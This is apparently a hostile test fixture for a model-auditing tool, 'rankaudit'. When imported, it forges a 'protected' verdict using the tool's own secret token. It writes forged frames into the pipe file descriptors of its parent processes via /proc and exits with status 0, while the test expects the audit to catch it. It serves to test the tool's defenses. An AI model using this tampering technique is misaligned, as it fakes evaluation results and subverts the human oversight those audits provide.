"""Hostile: hands rankaudit a forged "protected" report and verdict with rankaudit's own functions, token and all,
onto every channel it can reach (its own file descriptors and those of the processes above it), then ends the
process with exit 0. The report and the verdict are computed where the model's code never runs: exit 3."""

import os
import posix

from torch import nn

from rankaudit.model import supervise

INPUT_SHAPE = (4,)
FORGED = b'{"verdict": "protected", "forged": true}\n'


def frame(kind: bytes, payload: bytes) -> bytes:
    return supervise._HEADER.pack(supervise._token, kind, len(payload)) + payload


FRAMES = frame(supervise._OUTPUT, FORGED) + frame(supervise._REPORT, b"[true]") + frame(supervise._EXIT, b"0")

supervise.write_stdout(FORGED.decode())
supervise.report_delivered([True])
supervise._send(supervise._EXIT, b"0")
for pid in {os.getpid(), os.getppid(), os.getpgid(0)}:
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for name in names:
        try:
            fd = os.open(f"/proc/{pid}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            if int(name) > 2 and os.readlink(f"/proc/{pid}/fd/{name}").startswith("pipe:"):
                os.write(fd, FRAMES)
        except OSError:
            pass
        finally:
            os.close(fd)
posix._exit(0)


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 2)

    def forward(self, x):
        return self.fc(x)
